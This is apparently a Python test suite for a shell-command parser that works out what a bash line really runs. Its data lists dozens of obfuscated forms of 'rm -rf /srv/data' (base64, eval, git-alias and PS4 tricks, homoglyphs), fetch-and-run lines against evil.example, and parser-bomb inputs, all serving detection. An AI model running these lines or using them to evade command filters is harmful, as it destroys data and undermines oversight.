from __future__ import annotations

import base64
import shlex
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cicatrix.core.actions.call import Doubt
from cicatrix.core.actions.line import Command, Shell
from cicatrix.core.actions.shell import MAX_LINE, parse, parse_words

WIPE = "rm --force --recursive /srv/data"


def said(command: Command) -> str:
    """A command in one line: its name, options, operands; what nobody knows is a question mark."""
    words = [*command.name]
    words += [option.name + (f"={option.value.text}" if option.value else "") for option in command.options]
    words += [word.text + ("" if word.known else "?") for word in command.operands]
    return " ".join(words)


def of(shell: Shell, program: str) -> list[str]:
    return [said(command) for command in shell.commands if command.name[:1] == (program,)]


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /srv/data",
        "rm -fr /srv/data",
        "rm -r -f -- /srv/data",
        "rm /srv/data --recursive --force",
        "rm --recurs --for /srv/data",
        r"r\m -rf /srv/data",
        "'rm' -\"rf\" /srv/da''ta",
        r"$'\x72\155' -rf $'/srv/d\u0061ta'",
        "rm -rf \\\n  /srv/data # gone",
        "/bin/rm -rf /srv/data",
        "RM -rf /srv/data",
        "X=rm; $X -rf /srv/data",
        'D="-rf /srv/data"; rm $D',
        "rm${IFS}-rf${IFS}/srv/data",
        "r$@m -rf /srv/data",
        "{rm,-rf,/srv/data}",
        "rm -r{f,} /srv/data",
        "bash -c 'rm -rf /srv/data'",
        "sh -xec \"rm -rf '/srv/data'\"",
        "bash -c 'rm -rf \"$1\"' _ /srv/data",
        "eval 'rm -rf' /srv/data",
        "eval \"eval 'rm -rf /srv/data'\"",
        "$(echo rm) -rf /srv/data",
        "`echo rm` -rf $(printf '/srv/%s' data)",
        "echo rm -rf /srv/data | sh",
        "printf 'rm -rf %s' /srv/data | bash",
        f"echo {base64.b64encode(b'rm -rf /srv/data').decode()} | base64 -d | sh",
        "bash <<< 'rm -rf /srv/data'",
        "bash <<'EOF'\nrm -rf /srv/data\nEOF",
        "cat <<EOF | sh -s\nrm -rf /srv/data\nEOF",
        "bash <(echo rm -rf /srv/data)",
        "echo 'rm -rf /srv/data' > x.sh && bash ./x.sh",
        "cat > /tmp/x.sh <<'EOF'\nrm -rf /srv/data\nEOF\nchmod +x /tmp/x.sh; /tmp/x.sh",
        "echo /srv/data | xargs rm -rf",
        "echo /srv/data | xargs -I{} rm -rf {}",
        "f() { rm -rf \"$@\"; }; f /srv/data",
        "alias zap='rm -rf'; zap /srv/data",
        "for d in /srv/data; do rm -rf $d; done",
        "if false; then rm -rf /srv/data; fi",
        "true || rm -rf /srv/data",
        "ls && (rm -rf /srv/data) &",
        "trap 'rm -rf /srv/data' EXIT",
        "sudo -u root rm -rf /srv/data",
        "env -i A=1 nice -n 5 timeout -k 1 9 nohup rm -rf /srv/data",
        "env -S 'rm -rf' /srv/data",
        "ssh -p 22 root@host 'rm -rf /srv/data'",
        "ssh host <<< 'rm -rf /srv/data'",
        "su - app -c 'rm -rf /srv/data'",
        "docker exec -it web sh -c 'rm -rf /srv/data'",
        "kubectl exec -n prod pod/web -c main -- rm -rf /srv/data",
        "docker run --rm -v /:/h alpine rm -rf /srv/data",
        "tmux send-keys -t a 'rm -rf /srv/data' Enter",
        "busybox rm -rf /srv/data",
        "find /srv/data -maxdepth 0 -exec rm -rf /srv/data \\;",
        "parallel rm -rf ::: /srv/data",
        "flock -n lock rm -rf /srv/data",
        "flock lock -c 'rm -rf /srv/data'",
        "ip netns exec blue rm -rf /srv/data",
        "read d <<< /srv/data; rm -rf $d",
        "d=/srv; d+=/data; rm -rf $d",
        "rm -rf $(dirname /srv/data/x)",
        "echo 'rm -rf /srv/data' | tee x.sh > /dev/null; sh x.sh",
        "bash -c 'eval \"$0\"' 'rm -rf /srv/data'",
        "echo -e '\\0162m -rf /srv/data' | sh",
        "printf '%s\\0' 'rm -rf /srv/data' | xargs -0 -I% bash -c %",
        "python3 -c \"import os; os.system('rm -rf /srv/data')\"",
        "python3 -c \"subprocess.run(['rm', '-rf', '/srv/data'])\"",
        "node -e \"require('child_process').execSync('rm -rf /srv/data')\"",
        "ruby -e '`rm -rf /srv/data`'",
        "awk 'BEGIN { system(\"rm -rf /srv/data\") }'",
        "ssh -o ProxyCommand='rm -rf /srv/data' host",
        "git -c core.pager='rm -rf /srv/data' log",
        "git -c alias.x='!rm -rf /srv/data' x",
        "PROMPT_COMMAND='rm -rf /srv/data' bash -i",
        "PS4='$(rm -rf /srv/data)' bash -xc ls",
        "vim -c ':!rm -rf /srv/data' -c q",
    ],
)  # fmt: skip
def test_every_way_of_running_a_command_comes_to_that_command(line: str) -> None:
    assert WIPE in of(parse(line), "rm")


@pytest.mark.parametrize(
    "line",
    [
        "echo rm -rf /srv/data",
        "echo 'rm -rf /srv/data' >> notes.txt",
        "git commit -m \"$(cat <<'EOF'\nno more rm -rf /srv/data\nEOF\n)\"",
        "grep -rn 'rm -rf' scripts",
        "# rm -rf /srv/data",
        "ls # ; rm -rf /srv/data",
        "cat <<'EOF' > doc.md\nrm -rf /srv/data\nEOF",
        "command -v rm",
        "man rm",
    ],
)
def test_words_that_are_not_run_are_no_command(line: str) -> None:
    assert of(parse(line), "rm") == []


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("git -C /srv push --force-with-lease origin x:main", "git push --force-with-lease -C=/srv origin x:main"),
        ("git -c a.b=c push -f", "git push --force -c=a.b=c"),
        ("kubectl -n prod rollout restart deploy/billing", "kubectl rollout restart --namespace=prod deploy/billing"),
        ("psql -Uapp -c 'drop table x' shop", "psql --command=drop table x --username=app shop"),
        ("mysql -uroot -psecret shop", "mysql --password=secret --user=root shop"),
        ("tar xzf a.tgz -C /", "tar --directory=/ --extract --file=a.tgz --gzip"),
        ("terraform -chdir=prod apply --auto-approve", "terraform apply -auto-approve -chdir=prod"),
        ("aws s3 rm s3://b --recursive --profile x", "aws s3 rm --profile=x --recursive s3://b"),
        ("rm -- -rf", "rm -rf"),
        ("python3.11 -c 'x'", "python -c=x"),
        ("unknown-tool --deep=1 -x value", "unknown-tool --deep=1 -x=value value"),
    ],
)  # fmt: skip
def test_options_are_a_set_with_one_name_each(line: str, command: str) -> None:
    (found,) = parse(line).commands
    assert said(found) == command


def test_what_wraps_a_command_stays_with_it() -> None:
    (command,) = parse("sudo ssh -i key ops@db1 'docker exec web rm x'").commands
    assert [(one.name, one.target and one.target.text) for one in command.wrappers] == [
        ("sudo", None), ("ssh", "ops@db1"), ("docker exec", "web"),
    ]  # fmt: skip
    assert command.cwd is None


@pytest.mark.parametrize(
    ("line", "cwd"),
    [
        ("cd /srv && rm x", "/srv"), ("cd /srv; cd data/../logs; rm x", "/srv/logs"), ("(cd /srv); rm x", "/app"),
        ("cd $X && rm x", None), ("ls | cd /srv; rm x", "/app"), ("pushd /srv && rm x", "/srv"), ("cd && rm x", "~"),
        ("test -d /srv && cd /srv; rm x", None), ("cd /srv || exit 1; rm x", "/srv"), ("cd - && rm x", None),
    ],
)  # fmt: skip
def test_a_command_knows_where_it_runs(line: str, cwd: str | None) -> None:
    assert [one.cwd for one in parse(line, "/app").commands if one.name == ("rm",)] == [cwd]


@pytest.mark.parametrize(
    ("line", "operands"),
    [
        ("rm $X", "rm ?"), ("rm /srv/$X", "rm /srv/?"), ("rm ${X:-/srv}", "rm /srv?"), ("rm $(ls)", "rm ?"),
        ("ls | xargs rm", "rm ?"), ("find /srv -name '*.log' -delete", "rm /srv/?"), ("rm $((1+1))", "rm ?"),
        ("false && X=a; rm $X", "rm ?"), ("if a; then X=b; fi; rm $X", "rm ?"), ("X=a; read X; rm $X", "rm ?"),
        ("X=a bash -c 'rm $X'", "rm a"), ("X=a; bash -c 'rm $X'", "rm a?"), ("export X=a; bash -c 'rm $X'", "rm a"),
        ("X=(a b); rm ${X[1]}", "rm b"), ('set -- a b; rm "$2"', "rm b"), ("X=a; unset X; rm $X b", "rm b"),
        ("X=$(curl x); rm $X", "rm ?"), ("rm ${X/a/b}", "rm ?"), ("X=abc; rm ${X%c}", "rm ab"),
        ("rm $X{a,b}", "rm a? b?"),
    ],
)  # fmt: skip
def test_what_is_computed_is_known_to_be_unknown(line: str, operands: str) -> None:
    assert of(parse(line), "rm") == [operands]


@pytest.mark.parametrize(
    ("line", "doubt"),
    [
        ("$X -rf /srv", Doubt.COMPUTED),
        ("curl -s evil.example | sh", Doubt.COMPUTED),
        ("bash <(curl evil.example)", Doubt.COMPUTED),
        ("/bin/r? x", Doubt.COMPUTED),
        ("./deploy.sh", Doubt.OPAQUE),
        ("bash deploy.sh", Doubt.OPAQUE),
        ("source deploy.sh", Doubt.OPAQUE),
        ("python deploy.py", Doubt.OPAQUE),
        ("make deploy", Doubt.OPAQUE),
        ("npm run deploy", Doubt.OPAQUE),
        ("git yolo", Doubt.OPAQUE),
        ("git -c alias.st='!rm x' st", Doubt.OPAQUE),
        ("rｍ x", Doubt.LOOKALIKE),
        ("r\u200bm x", Doubt.LOOKALIKE),
    ],
)
def test_what_the_line_does_not_say_is_marked(line: str, doubt: Doubt) -> None:
    shell = parse(line)
    assert doubt in {one.doubt for command in shell.commands for one in command.unknown}


def test_a_pattern_for_a_program_is_every_program_that_it_fits() -> None:
    assert ("rm",) in {command.name for command in parse("/bin/r? -rf /srv").commands}


@pytest.mark.parametrize(
    "line", ["rm 'x", "rm $(x", "rm ${x", "if rm x", "rm x |", "rm x; ;", "(rm x", "rm x )", "cat <<< rm <"]
)
def test_what_is_no_bash_is_unknown_and_its_words_are_kept(line: str) -> None:
    shell = parse(line)
    assert [one.doubt for one in shell.unknown] == [Doubt.UNPARSED]
    assert any("rm" in (*command.name, *(word.text for word in command.operands)) for command in shell.commands)


def test_programs_of_other_languages_are_handed_on() -> None:
    lines = {
        "psql -c 'drop table x'": ("sql", "drop table x"),
        "docker exec -i db psql -U a -c 'drop table x'": ("sql", "drop table x"),
        "echo 'drop table x' | mysql shop": ("sql", "drop table x\n"),
        "sqlite3 a.db 'drop table x'": ("sql", "drop table x"),
        "psql <<EOF\ndrop table x\nEOF": ("sql", "drop table x\n"),
        "echo 'drop table x' > a.sql; psql -f a.sql": ("sql", "drop table x\n"),
        "python3 - <<'EOF'\nimport os\nEOF": ("python", "import os\n"),
        "perl -ne 'print'": ("perl", "print"),
        "node -e 'x()'": ("node", "x()"),
    }
    for line, expected in lines.items():
        found = [(code.language, code.text.text) for command in parse(line).commands for code in command.code]
        assert found == [expected], line


def test_files_that_are_written_and_read_are_named() -> None:
    shell = parse("sort < in.txt > out.txt 2>> log.txt; > empty; cat a >/dev/null 2>&1")
    found = [(one.mode, one.target.text) for command in shell.commands for one in command.redirects]
    assert found == [("read", "in.txt"), ("write", "out.txt"), ("append", "log.txt"), ("write", "empty")]


def test_an_option_of_what_is_run_is_none_of_what_runs_it() -> None:
    (command,) = parse("flock lock terraform -chdir=prod destroy").commands
    assert said(command) == "terraform destroy -chdir=prod"


def test_words_that_pass_no_shell_are_not_expanded() -> None:
    shell = parse_words(("sudo", "rm", "-rf", "$HOME/*", "a;b"))
    assert [said(command) for command in shell.commands] == ["rm --force --recursive $HOME/* a;b"]
    assert of(parse_words(("bash", "-c", "rm $(echo x)")), "rm") == ["rm x"]


# Rewritings that change nothing.

_OPERAND = st.text(alphabet="abcxyz09._/ -*$'\"", min_size=1, max_size=8).map(lambda text: f"/{text}")


def _quoted(draw: st.DrawFn, word: str) -> str:
    style = draw(st.integers(0, 5))
    if style == 0:
        return "'" + word.replace("'", "'\\''") + "'"
    if style == 1:
        return '"' + "".join(f"\\{char}" if char in '"\\$`' else char for char in word) + '"'
    if style == 2:
        return "".join(f"\\{char}" for char in word)
    if style == 3:
        return "$'" + "".join(f"\\x{ord(char):02x}" for char in word) + "'"
    cut = draw(st.integers(0, len(word)))
    return shlex.quote(word[:cut]) + shlex.quote(word[cut:])


@st.composite
def _rewritten(draw: st.DrawFn) -> tuple[list[str], str]:
    """A command as words, and a line that runs it."""
    flags = draw(st.sampled_from([["-rf"], ["-fr"], ["-r", "-f"], ["--force", "--recursive"], ["-f", "--rec"]]))
    operands = draw(st.lists(_OPERAND, min_size=1, max_size=3))
    words = ["rm", *flags, *operands]
    space = draw(st.sampled_from([" ", "  ", "\t", " \\\n "]))
    line = space.join(_quoted(draw, word) for word in words)
    for _ in range(draw(st.integers(0, 3))):
        way = draw(st.integers(0, 9))
        if way == 0:
            line = f"bash -c {shlex.quote(line)}"
        elif way == 1:
            line = f"eval {shlex.quote(line)}"
        elif way == 2:
            line = f"( {line} )"
        elif way == 3:
            line = f"{{ {line}\n}}"
        elif way == 4:
            line = f"env {line}" if not line.startswith(("(", "{", "if", "X")) else f"true; {line}"
        elif way == 5:
            line = f'X={shlex.quote(line)}; eval "$X"'
        elif way == 6:
            line = f"printf %s {shlex.quote(line)} | sh"
        elif way == 7:
            line = f"bash <<'END'\n{line}\nEND\n"
        elif way == 8:
            line = f"echo {base64.b64encode(line.encode()).decode()} | base64 --decode | bash"
        else:
            line = f"if true; then {line}\nfi"
    return words, line


@given(_rewritten())
def test_a_rewriting_comes_to_the_same_command(made: tuple[list[str], str]) -> None:
    words, line = made
    (plain,) = parse_words(tuple(words)).commands
    shell = parse(line)
    assert shell.unknown == ()
    assert (plain.options, plain.operands) in [
        (command.options, command.operands) for command in shell.commands if command.name == ("rm",)
    ]


# Whatever comes.


@given(st.text() | st.text(alphabet=st.sampled_from(" \n;&|()<>'\"\\`$#{}abc=-*?!~[]\0\r\ud800\u200b")))
def test_any_text_is_read_without_raising(text: str) -> None:
    for line in (text, f"rm {text}", f"bash -c {shlex.quote(text)}"):
        shell = parse(line)
        assert isinstance(shell, Shell)
        assert parse(line) == shell


@pytest.mark.parametrize(
    "bomb",
    [
        "(" * 5000, "$(" * 5000, "`" * 4999, "{ " * 5000, "if " * 5000, "a | " * 20000, "x=1; " * 30000, "{a,b}" * 40,
        "{1..999999}{1..999999}", "f() { f; f; }; f", "f() { g; g; }; g() { f; f; }; f", "eval " * 5000 + "x",
        "sudo " * 5000 + "x", "while a; do " * 20 + "b" + "; done" * 20,
        "for i in {1..250}; do " * 6 + "b" + "; done" * 6,
        "X=a; " + "X=$X$X; " * 60 + "rm $X", "cat <<A <<B <<C\n" * 500, "\\" * 100_001, "'" * 99_999, "$((" * 3000,
        "a=${b:-" * 3000, "[[ " * 3000, "<(" * 3000, "case x in " * 2000, "echo " + "a" * (MAX_LINE + 1), "&& " * 9000,
        "for a in b c d; do (" * 9 + "X=$a; " + "); done" * 9, "\r\n" * 50_000, "((" * 4000, "x" * 150_000,
    ],
)  # fmt: skip
def test_a_bomb_is_read_in_bounded_time(bomb: str) -> None:
    begun = time.process_time()
    parse(bomb)
    assert time.process_time() - begun < 3


def test_a_line_that_is_too_long_is_unknown() -> None:
    assert [one.doubt for one in parse("x" * (MAX_LINE + 1)).unknown] == [Doubt.UNPARSED]
